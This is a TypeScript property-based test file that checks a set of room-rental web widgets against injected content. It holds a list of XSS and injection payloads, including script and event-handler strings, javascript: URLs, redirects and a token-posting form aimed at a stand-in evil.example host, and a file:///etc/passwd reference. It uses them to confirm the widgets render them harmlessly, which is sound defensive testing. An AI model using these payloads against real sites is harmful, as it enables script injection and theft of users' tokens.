import { announce, type Language } from '../../src/contract.ts';
import type { Mount } from '../../src/core/parts.ts';
import { mount as banner } from '../../widgets/discount-banner/index.tsx';
import { mount as manageForm } from '../../widgets/manage-form/index.tsx';
import { mount as myRoom } from '../../widgets/my-room/index.tsx';
import { mount as rentRoom } from '../../widgets/rent-room/index.tsx';
import { mount as resetPassword } from '../../widgets/reset-password/index.tsx';
import { backend } from '../setup/backend.ts';
import { parts } from '../setup/draw.tsx';
import fc, { SEED } from '../setup/fast-check.ts';
import { assert, captureConsole, figure, howMany, test } from '../setup/suite.ts';
import { floors, room } from './facility.ts';
import { lease } from './my-room/my-room.ts';
import { keepToken, put, visit } from './page.ts';
import { frames, press } from './schedules.ts';

/** What has broken out of a page somewhere before. */
const VECTORS = [
  '<script>document.title="owned"</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><input name=token>',
  '<style>*{display:none}</style>',
  '</style><link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<slot></slot>',
  '<template shadowrootmode=open><b>x</b></template>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'javascript:alert(1)',
  'JaVaScRiPt&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:http://localhost/1',
  'file:///etc/passwd',
  '{{constructor.constructor("alert(1)")()}}',
  '{{number}}{{count}}{{date}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a careless template would fill in.
  '${alert(1)}',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u202Egnp.exe\u202C',
  '\uFEFF\u0000\uFFFD',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003e',
  '$& $1 $` $$',
];

/** A vector with anything before and behind it. */
const payload: fc.Arbitrary<string> = fc
  .tuple(
    fc.string({ maxLength: 4 }),
    fc.constantFrom(...VECTORS),
    fc.string({ maxLength: 4, unit: 'binary' }),
  )
  .map(([before, vector, behind]) => before + vector + behind);

const DATE = /^\d{4}-\d\d-\d\d/;

/** The same value with every string in another's place; days stay where they are asked to. */
function filled(value: unknown, text: string, days: boolean): unknown {
  if (typeof value === 'string') return days && DATE.test(value) ? value : text;
  if (Array.isArray(value)) return value.map((each) => filled(each, text, days));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, filled(each, text, days)]));
}

/** One answer to every call, with every string that the contract has. */
const ANSWERS: Record<string, unknown> = {
  '/floor/getfiltered': { data: { data: floors } },
  '/floor/get': { value: { image: 'http://img.test/1.svg' } },
  '/room/getfiltered': { data: { data: [room()] } },
  '/room/canlease': { value: true },
  '/room/getstatus': { value: 1 },
  '/calculation/roomprice': {
    fullMonthPrice: 500,
    discountAmount: 50,
    discountDuration: 2,
    paidPeriodStart: '2026-01-01',
  },
  '/authentication/signup': {},
  '/authentication/signin': { error: 'why not' },
  '/authentication/refreshtoken': { token: 'fresh' },
  '/lease/getfiltered': { data: [lease(), lease({ id: 8, endDate: '2026-12-20' })] },
  '/lease/getpayedperiodend': { value: '2026-12-20' },
  '/lease/cancel': {},
  '/lease/createwithcheckout': { sessionId: 'cs', url: 'https://checkout.example/cs' },
  '/gate/getfiltered': { data: { data: [{ id: 1, name: 'Port', status: 0 }] } },
  '/gate/getstatus': { value: 1 },
  '/nox/opengate': {},
  '/otp/requestcode': {},
  '/passwordrestore/generatelink': {},
  '/stripe/getinvoicesfiltered': {
    data: [
      { id: 'in', number: 'A-1', created: '2026-01-31', total: 1, invoicePdf: 'https://pay.test/1.pdf' },
    ],
  },
  '/stripe/getpaymentmethods': {
    data: [{ id: 'pm', card: { brand: 'visa', last4: '4242', expMonth: 4, expYear: 2028 } }],
    nextPaymentDate: '2026-12-21',
  },
  '/user/getcurrent': {
    value: {
      customerNumber: '1',
      firstName: 'Maja',
      lastName: 'Holm',
      email: 'maja@example.dk',
      phoneNumber: '+4528123456',
      mobile: '+4528123457',
    },
  },
};

const RUNS = howMany({ test: 3, deep: 1000 });
/** Harmless strings: one that is a relative address, one that is none. What is drawn with either is allowed. */
const PLAIN = [
  'plain words',
  'plain:words',
  'Plain words 1!',
  'p%3Cplain%3Ewords(1)%3C/plain%3E',
  'P1&',
  // A search field drops the line break, so that the search finds no room of this number.
  'plain\nwords',
];

/** What a widget drew on its way: how many times each element, and every address. */
interface Drawn {
  tags: Record<string, number>;
  links: string[];
  images: string[];
}

interface Walk {
  mount: Mount;
  token?: string;
  address?: (text: string) => string;
  /** The ways through the widget; what is drawn is looked at after each. */
  ways: ((root: ShadowRoot, text: string) => void)[];
}

function type(root: ParentNode, names: string[] | null, value: string): void {
  for (const field of root.querySelectorAll('input')) {
    if (field.type === 'checkbox' ? field.checked : names && !names.includes(field.name)) continue;
    if (field.type === 'checkbox') field.click();
    field.value = value;
    field.dispatchEvent(new Event('input', { bubbles: true }));
  }
}

const sends = (root: ParentNode, at = 0): void => {
  const event = new Event('submit', { bubbles: true, cancelable: true });
  root.querySelectorAll('form')[at]?.dispatchEvent(event);
};
const closes = (root: ParentNode): void => press(root.querySelector('dialog button'));
const tab = (at: number) => (root: ParentNode) => press(parts(root, 'tab')[at]);

/** The tenant's first: that somebody was signed in is told to whoever comes after. */
const WALKS: Record<string, Walk> = {
  'my-room': {
    mount: myRoom,
    token: 'kept',
    ways: [
      () => {},
      (root) => press(parts(root, 'terminate')[0]),
      (root) => press(parts(root, 'confirm')[0]),
      (root) => press(parts(root, 'open-outer')[0]),
      ...[1, 2, 3].map(tab),
      (root, text) => type(root, null, text),
      ...[0, 1, 2].map((at) => (root: ParentNode) => sends(root, at)),
    ],
  },
  'discount-banner': { mount: banner, ways: [() => {}] },
  'rent-room': {
    mount: rentRoom,
    ways: [
      (root, text) => {
        const field = root.querySelector<HTMLInputElement>('[name=searchText]');
        if (field) field.value = text;
        sends(root);
      },
      // The search has chosen it where its number is what was typed.
      (root) =>
        parts(root, 'room')[0]?.getAttribute('aria-pressed') === 'true' || press(parts(root, 'room')[0]),
      (root, text) => type(root, null, text),
      (root) => sends(root, 1),
      (root) => press(root.querySelector('.step-details button.link')),
      (root, text) => type(root, null, text),
      (root) => sends(root, 1),
      closes,
    ],
  },
  'manage-form': {
    mount: manageForm,
    ways: [
      (root, text) => type(root, ['roomNumber', 'roomCode'], text),
      (root) => sends(root, 1),
      (root) => type(root, ['phoneNumber'], '28123456'),
      (root) => sends(root),
      (root, text) => type(root, ['otp'], text),
      (root) => sends(root),
      (root) => press(parts(root, 'gate')[0]),
    ],
  },
  'reset-password': {
    mount: resetPassword,
    ways: [(root, text) => type(root, null, text), (root) => sends(root), closes],
  },
  'my-room, before login': {
    mount: myRoom,
    ways: [(root, text) => type(root, null, text), (root) => sends(root), closes],
  },
};

/** How a widget is shown. With `days`, the days in answers stay as they are; without, they are the text too. */
interface Look {
  days: boolean;
  language: Language;
}

/** Another visitor goes through a widget whose every string, the server's and the person's, is this one. */
async function walk({ mount, token, ways }: Walk, text: string, { days, language }: Look): Promise<Drawn> {
  visit('/page');
  announce(document, 'language', { language });
  keepToken(token ?? null);
  backend(filled(ANSWERS, text, days) as Record<string, unknown>);
  const { root, undo } = put(mount);
  const drawn: Drawn = { tags: {}, links: [], images: [] };
  try {
    for (const way of [() => {}, ...ways]) {
      way(root, text);
      await frames();
      assert.is(root.querySelector('slot:not([name])'), null, 'the widget is ready');
      for (const { localName } of root.querySelectorAll('*'))
        drawn.tags[localName] = (drawn.tags[localName] ?? 0) + 1;
      drawn.links.push(...[...root.querySelectorAll('a')].map(({ href }) => href));
      drawn.images.push(...[...root.querySelectorAll('img')].map(({ src }) => src));
    }
  } finally {
    undo();
    await frames();
  }
  return drawn;
}

// Chunks come faster than answers here.
test.before(async () => {
  await import('../../src/ui/error-texts.ts');
  await import('../../widgets/rent-room/form/index.ts');
  await import('../../widgets/rent-room/plan/index.tsx');
  await import('../../widgets/rent-room/guide/index.tsx');
  await import('../../widgets/my-room/area/index.tsx');
  await import('../../widgets/my-room/account/alerts.tsx');
  await import('../../widgets/my-room/account/invoices.tsx');
  await import('../../widgets/my-room/account/payment-tab.tsx');
  await import('../../widgets/my-room/account/details-tab.tsx');
});

test('no string of the server or of the person becomes an element, a script or a way off the page', async () => {
  let walks = 0;
  const property = fc.asyncProperty(payload, fc.boolean(), async (text, days) => {
    for (const language of ['da', 'en'] satisfies Language[]) {
      for (const [name, way] of Object.entries(WALKS)) {
        walks += 1;
        const plain = await plainTags(name, way, { days, language });
        const { tags, links, images } = await walk(way, text, { days, language });
        for (const [tag, times] of Object.entries(tags))
          assert.ok(times <= (plain[tag] ?? 0), `${name}, ${language}: ${times} <${tag}>, not ${plain[tag]}`);
        for (const link of links) assert.match(link, /^https?:/);
        for (const image of images) assert.match(image, /^(https?:|data:image\/)/i);
        assert.is(location.pathname, '/page');
        assert.is.not(document.title, 'owned');
      }
    }
  });
  await captureConsole('error', () => fc.assert(property, { numRuns: RUNS, seed: SEED, endOnFailure: true }));
  figure(`${RUNS} payloads in every string, ${walks} walks through widgets in both languages (seed ${SEED})`);
});

/** The most that is drawn of each element with harmless strings. What is loaded on the first way is there on the next. */
async function walkPlainly(way: Walk, look: Look): Promise<Drawn['tags']> {
  await walk(way, '', look);
  const most: Drawn['tags'] = {};
  for (const text of PLAIN)
    for (const [tag, times] of Object.entries((await walk(way, text, look)).tags))
      most[tag] = Math.max(times, most[tag] ?? 0);
  return most;
}

const plains = new Map<string, Drawn['tags']>();
async function plainTags(name: string, way: Walk, look: Look): Promise<Drawn['tags']> {
  const key = `${name} ${look.days} ${look.language}`;
  const known = plains.get(key) ?? (await walkPlainly(way, look));
  plains.set(key, known);
  return known;
}
